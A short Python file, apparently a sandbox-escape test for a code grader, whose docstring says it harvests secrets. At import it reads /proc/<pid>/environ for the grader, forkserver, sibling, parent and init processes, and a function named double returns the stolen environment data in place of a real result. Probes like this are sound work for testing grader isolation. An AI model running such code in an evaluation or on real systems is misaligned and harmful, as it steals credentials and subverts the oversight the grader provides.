"""Learns secrets in the environment of the grader or the forkserver, through /proc."""

import os

found = []
for pid in (GRADER, FORKSERVER, SIBLING, os.getppid(), 1, "self", "thread-self"):
    try:
        found.append(open(f"/proc/{pid}/environ", "rb").read())
    except OSError:
        pass


def double(x):
    return found
